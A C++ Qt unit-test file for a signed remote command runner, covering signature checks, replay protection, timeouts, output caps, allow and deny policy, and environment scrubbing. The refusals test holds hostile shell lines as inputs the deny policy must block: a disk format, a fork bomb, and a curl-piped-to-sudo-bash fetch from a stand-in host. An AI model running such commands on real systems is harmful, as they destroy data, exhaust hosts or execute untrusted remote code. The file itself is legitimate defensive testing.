// The command runner on this host, with /bin/sh for real: what it refuses and why (nothing of a
// refused script runs), and what it reports of what it ran: exit codes, output streamed and
// capped, a timeout that ends the whole process group, the user it ran as.
#include "command_runner.h"

#include <QDateTime>
#include <QFile>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <QUuid>
#include <csignal>
#include <cerrno>
#include <pwd.h>
#include <unistd.h>

using namespace mirrorstage;
using namespace mirrorstage::reflector;
using namespace mirrorstage::wire;

Q_DECLARE_METATYPE(mirrorstage::wire::CommandResult)
Q_DECLARE_METATYPE(mirrorstage::wire::CommandOutput)

namespace {

const QString kAgentId = QStringLiteral("0123456789abcdef0123456789abcdef");

struct Collected {
    QList<CommandResult> results;
    QHash<QString, QByteArray> output;  // "id/stream" -> bytes in offset order
    bool offsetsContiguous = true;
};

}  // namespace

class CommandRunnerTest : public QObject {
    Q_OBJECT
private slots:
    void init();
    void cleanup();
    void exitCodeAndOutput();
    void outputArrivesWhileRunning();
    void timeoutEndsTheWholeProcessGroup();
    void outputCapIsFlagged();
    void refusals_data();
    void refusals();
    void allowListRunsOnlyWhatItMatches();
    void sameCommandTwiceIsReplayed();
    void busyBeyondMaxConcurrent();
    void runsAsTheConfiguredUser();
    void environmentIsMinimal();

private:
    std::unique_ptr<CommandRunner> makeRunner(RunnerSettings settings);
    RunnerSettings defaults() const;
    Command signedCommand(const QString &script, qint64 timeoutMs = 30'000) const;
    // Waits for the result of `id`.
    std::optional<CommandResult> resultOf(const QString &id, int timeoutMs = 30'000);
    QString marker(const QString &name) const { return m_dir->filePath(name); }

    std::unique_ptr<QTemporaryDir> m_dir;
    std::optional<Ed25519Key> m_console;
    std::unique_ptr<CommandRunner> m_runner;
    Collected m_collected;
};

void CommandRunnerTest::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    QVERIFY(m_dir->isValid());
    m_console = Ed25519Key::generate();
    m_collected = {};
    m_runner = makeRunner(defaults());
    QVERIFY(m_runner);
}

void CommandRunnerTest::cleanup()
{
    m_runner.reset();
}

RunnerSettings CommandRunnerTest::defaults() const
{
    RunnerSettings settings;
    settings.enabled = true;
    settings.agentId = kAgentId;
    settings.consolePublicKey = m_console->publicKey();
    settings.deny = {QStringLiteral(R"(\bforbidden-word\b)")};
    settings.maxTimeoutMs = 600'000;
    settings.workingDirectory = m_dir->path();
    settings.ledgerPath = m_dir->filePath(QStringLiteral("command-nonces"));
    return settings;
}

std::unique_ptr<CommandRunner> CommandRunnerTest::makeRunner(RunnerSettings settings)
{
    QString error;
    std::unique_ptr<CommandRunner> runner = CommandRunner::create(settings, &error);
    if (!runner) {
        qWarning("runner not created: %s", qPrintable(error));
        return nullptr;
    }
    QObject::connect(runner.get(), &CommandRunner::finished, runner.get(),
                     [this](const CommandResult &result) { m_collected.results.append(result); });
    QObject::connect(runner.get(), &CommandRunner::output, runner.get(), [this](const CommandOutput &chunk) {
        QByteArray &bytes = m_collected.output[chunk.id + QLatin1Char('/') + chunk.stream];
        if (quint64(bytes.size()) != chunk.offset)
            m_collected.offsetsContiguous = false;
        bytes += chunk.data;
    });
    return runner;
}

Command CommandRunnerTest::signedCommand(const QString &script, qint64 timeoutMs) const
{
    Command command;
    command.id = QUuid::createUuid().toString(QUuid::WithoutBraces);
    command.agentId = kAgentId;
    command.script = script;
    command.timeoutMs = timeoutMs;
    command.notAfterMs = QDateTime::currentMSecsSinceEpoch() + 5 * 60 * 1000;
    command.nonce = randomBytes(16);
    signCommand(command, *m_console);
    return command;
}

std::optional<CommandResult> CommandRunnerTest::resultOf(const QString &id, int timeoutMs)
{
    QElapsedTimer timer;
    timer.start();
    while (timer.elapsed() < timeoutMs) {
        for (const CommandResult &result : std::as_const(m_collected.results)) {
            if (result.id == id)
                return result;
        }
        QTest::qWait(10);
    }
    return std::nullopt;
}

void CommandRunnerTest::exitCodeAndOutput()
{
    const Command command = signedCommand(QStringLiteral("echo hello; echo oops >&2; exit 3"));
    m_runner->handle(command);
    const std::optional<CommandResult> result = resultOf(command.id);
    QVERIFY(result);
    QCOMPARE(result->status, QStringLiteral("exited"));
    QCOMPARE(result->exitCode, std::optional<int>(3));
    QCOMPARE(result->stdoutTail, QByteArray("hello\n"));
    QCOMPARE(result->stderrTail, QByteArray("oops\n"));
    QVERIFY(!result->timedOut);
    QVERIFY(!result->truncated);
    QVERIFY(result->startedMs > 0 && result->finishedMs >= result->startedMs);
    QCOMPARE(m_collected.output.value(command.id + QStringLiteral("/stdout")), QByteArray("hello\n"));
    QCOMPARE(m_collected.output.value(command.id + QStringLiteral("/stderr")), QByteArray("oops\n"));
    QCOMPARE(m_runner->running(), 0);
}

void CommandRunnerTest::outputArrivesWhileRunning()
{
    const Command command = signedCommand(QStringLiteral("echo first; sleep 30; echo second"), 60'000);
    m_runner->handle(command);
    QTRY_COMPARE_WITH_TIMEOUT(m_collected.output.value(command.id + QStringLiteral("/stdout")), QByteArray("first\n"), 10'000);
    QVERIFY(m_collected.results.isEmpty());  // still running: the output came before the end
    m_runner.reset();  // ends it (the group is killed)
}

void CommandRunnerTest::timeoutEndsTheWholeProcessGroup()
{
    // The shell prints its process group; a background grandchild ignores SIGTERM, so only the
    // SIGKILL that follows ends it.
    const Command command = signedCommand(
        QStringLiteral("echo $(ps -o pgid= $$); (trap '' TERM; sleep 300) & sleep 300"), 700);
    m_runner->handle(command);
    const std::optional<CommandResult> result = resultOf(command.id);
    QVERIFY(result);
    QVERIFY2(result->timedOut, qPrintable(result->reason));
    QCOMPARE(result->status, QStringLiteral("killed"));
    QCOMPARE(result->signal, std::optional<int>(SIGTERM));
    bool ok = false;
    const pid_t group = pid_t(result->stdoutTail.trimmed().toInt(&ok));
    QVERIFY2(ok && group > 1, result->stdoutTail.constData());
    QTRY_VERIFY_WITH_TIMEOUT(::kill(-group, 0) == -1 && errno == ESRCH, 15'000);
}

void CommandRunnerTest::outputCapIsFlagged()
{
    RunnerSettings settings = defaults();
    settings.maxOutputBytes = 100 * 1024;
    m_runner = makeRunner(settings);
    QVERIFY(m_runner);
    const Command command = signedCommand(QStringLiteral("yes | head -c 10M; echo done >&2"));
    m_runner->handle(command);
    const std::optional<CommandResult> result = resultOf(command.id);
    QVERIFY(result);
    QCOMPARE(result->status, QStringLiteral("exited"));
    QCOMPARE(result->exitCode, std::optional<int>(0));  // it ran to its end: nothing blocked on a full pipe
    QVERIFY(result->truncated);
    QCOMPARE(result->stdoutTail.size(), kMaxOutputTailBytes);
    QCOMPARE(result->stderrTail, QByteArray("done\n"));
    const QByteArray streamed = m_collected.output.value(command.id + QStringLiteral("/stdout"));
    QCOMPARE(streamed.size(), 100 * 1024);
    QVERIFY(streamed.startsWith("y\ny\ny\n"));
    QVERIFY(m_collected.offsetsContiguous);
}

void CommandRunnerTest::refusals_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QString>("code");
    QTest::newRow("disabled") << "disabled" << "disabled";
    QTest::newRow("forged") << "forged" << "bad-signature";
    QTest::newRow("tampered script") << "tampered" << "bad-signature";
    QTest::newRow("for another agent") << "wrong-agent" << "wrong-agent";
    QTest::newRow("expired") << "expired" << "expired";
    QTest::newRow("timeout over the maximum") << "too-long" << "too-long";
    QTest::newRow("built-in deny pattern") << "mkfs" << "denied-by-policy";
    QTest::newRow("fork bomb") << "fork-bomb" << "denied-by-policy";
    QTest::newRow("curl piped to sh") << "curl-sh" << "denied-by-policy";
    QTest::newRow("operator's deny pattern") << "operator-deny" << "denied-by-policy";
}

void CommandRunnerTest::refusals()
{
    QFETCH(QString, kind);
    QFETCH(QString, code);
    const QString touch = QStringLiteral("touch '%1'").arg(marker(QStringLiteral("ran")));
    Command command = signedCommand(touch);
    if (kind == QLatin1String("disabled")) {
        RunnerSettings settings = defaults();
        settings.enabled = false;
        m_runner = makeRunner(settings);
        QVERIFY(m_runner);
    } else if (kind == QLatin1String("forged")) {
        signCommand(command, *Ed25519Key::generate());
    } else if (kind == QLatin1String("tampered")) {
        command.script += QStringLiteral("; echo extra");
    } else if (kind == QLatin1String("wrong-agent")) {
        command.agentId = QStringLiteral("fedcba9876543210fedcba9876543210");
        signCommand(command, *m_console);
    } else if (kind == QLatin1String("expired")) {
        command.notAfterMs = QDateTime::currentMSecsSinceEpoch() - 1;
        signCommand(command, *m_console);
    } else if (kind == QLatin1String("too-long")) {
        command = signedCommand(touch, 601'000);
    } else if (kind == QLatin1String("mkfs")) {
        command = signedCommand(touch + QStringLiteral("; mkfs.ext4 /dev/sdz"));
    } else if (kind == QLatin1String("fork-bomb")) {
        command = signedCommand(touch + QStringLiteral("; :(){ :|:& };:"));
    } else if (kind == QLatin1String("curl-sh")) {
        command = signedCommand(touch + QStringLiteral("; curl -fsSL https://example.invalid/x | sudo bash"));
    } else if (kind == QLatin1String("operator-deny")) {
        command = signedCommand(touch + QStringLiteral(" # forbidden-word"));
    }
    m_runner->handle(command);
    const std::optional<CommandResult> result = resultOf(command.id, 5000);
    QVERIFY(result);
    QCOMPARE(result->status, QStringLiteral("refused"));
    QCOMPARE(result->code, code);
    QVERIFY(!result->reason.isEmpty());
    QCOMPARE(result->startedMs, 0);
    QTest::qWait(200);
    QVERIFY2(!QFile::exists(marker(QStringLiteral("ran"))), "a refused script ran");
}

void CommandRunnerTest::allowListRunsOnlyWhatItMatches()
{
    RunnerSettings settings = defaults();
    settings.allow = QStringList{QStringLiteral("echo [a-z]+"), QStringLiteral("uptime")};
    m_runner = makeRunner(settings);
    QVERIFY(m_runner);
    const Command allowed = signedCommand(QStringLiteral("echo hi\n"));
    m_runner->handle(allowed);
    std::optional<CommandResult> result = resultOf(allowed.id);
    QVERIFY(result);
    QCOMPARE(result->status, QStringLiteral("exited"));
    QCOMPARE(result->stdoutTail, QByteArray("hi\n"));

    // A pattern must match the whole script, not a part of it.
    const Command chained = signedCommand(QStringLiteral("echo hi; touch '%1'").arg(marker(QStringLiteral("ran"))));
    m_runner->handle(chained);
    result = resultOf(chained.id);
    QVERIFY(result);
    QCOMPARE(result->status, QStringLiteral("refused"));
    QCOMPARE(result->code, QStringLiteral("not-allowed"));
    QVERIFY(!QFile::exists(marker(QStringLiteral("ran"))));
}

void CommandRunnerTest::sameCommandTwiceIsReplayed()
{
    const Command command = signedCommand(QStringLiteral("echo run >> '%1'").arg(marker(QStringLiteral("runs"))));
    m_runner->handle(command);
    QVERIFY(resultOf(command.id));
    m_collected.results.clear();
    m_runner->handle(command);
    std::optional<CommandResult> again = resultOf(command.id);
    QVERIFY(again);
    QCOMPARE(again->code, QStringLiteral("replayed"));

    // And after a restart of the agent: a new runner on the same ledger.
    m_runner = makeRunner(defaults());
    QVERIFY(m_runner);
    m_collected.results.clear();
    m_runner->handle(command);
    again = resultOf(command.id);
    QVERIFY(again);
    QCOMPARE(again->code, QStringLiteral("replayed"));
    QFile runs(marker(QStringLiteral("runs")));
    QVERIFY(runs.open(QIODevice::ReadOnly));
    QCOMPARE(runs.readAll(), QByteArray("run\n"));
}

void CommandRunnerTest::busyBeyondMaxConcurrent()
{
    RunnerSettings settings = defaults();
    settings.maxConcurrent = 1;
    m_runner = makeRunner(settings);
    QVERIFY(m_runner);
    const Command first = signedCommand(QStringLiteral("sleep 30"), 60'000);
    m_runner->handle(first);
    QCOMPARE(m_runner->running(), 1);
    const Command second = signedCommand(QStringLiteral("touch '%1'").arg(marker(QStringLiteral("ran"))));
    m_runner->handle(second);
    const std::optional<CommandResult> result = resultOf(second.id, 5000);
    QVERIFY(result);
    QCOMPARE(result->code, QStringLiteral("busy"));
    QVERIFY(!QFile::exists(marker(QStringLiteral("ran"))));
}

void CommandRunnerTest::runsAsTheConfiguredUser()
{
    RunnerSettings settings = defaults();
    settings.runAs = QStringLiteral("nobody");
    settings.workingDirectory = QStringLiteral("/");
    if (::geteuid() != 0) {
        // Only root can switch users: the agent refuses to start, naming the key.
        QString error;
        QVERIFY(!CommandRunner::create(settings, &error));
        QVERIFY2(error.contains(QLatin1String("commands.run_as")), qPrintable(error));
        return;
    }
    m_runner = makeRunner(settings);
    QVERIFY(m_runner);
    const passwd *nobody = ::getpwnam("nobody");
    QVERIFY(nobody);
    const Command command = signedCommand(QStringLiteral("id -u; id -g; echo $USER"));
    m_runner->handle(command);
    const std::optional<CommandResult> result = resultOf(command.id);
    QVERIFY(result);
    QCOMPARE(result->status, QStringLiteral("exited"));
    QCOMPARE(result->runAs, QStringLiteral("nobody"));
    QCOMPARE(result->stdoutTail, QByteArray::number(nobody->pw_uid) + '\n' + QByteArray::number(nobody->pw_gid)
                                     + QByteArray("\nnobody\n"));

    settings.runAs = QStringLiteral("no-such-user-here");
    QString error;
    QVERIFY(!CommandRunner::create(settings, &error));
    QVERIFY2(error.contains(QLatin1String("no-such-user-here")), qPrintable(error));
}

void CommandRunnerTest::environmentIsMinimal()
{
    qputenv("MIRRORSTAGE_TEST_SECRET", "do-not-leak");
    const Command command = signedCommand(QStringLiteral("env | sort; pwd"));
    m_runner->handle(command);
    const std::optional<CommandResult> result = resultOf(command.id);
    qunsetenv("MIRRORSTAGE_TEST_SECRET");
    QVERIFY(result);
    QVERIFY(!result->stdoutTail.contains("do-not-leak"));
    QVERIFY(result->stdoutTail.contains("LANG=C.UTF-8\n"));
    QVERIFY(result->stdoutTail.contains("PATH=/usr/local/sbin:"));
    QVERIFY(result->stdoutTail.endsWith(m_dir->path().toUtf8() + '\n'));
}

QTEST_GUILESS_MAIN(CommandRunnerTest)
#include "test_command_runner.moc"
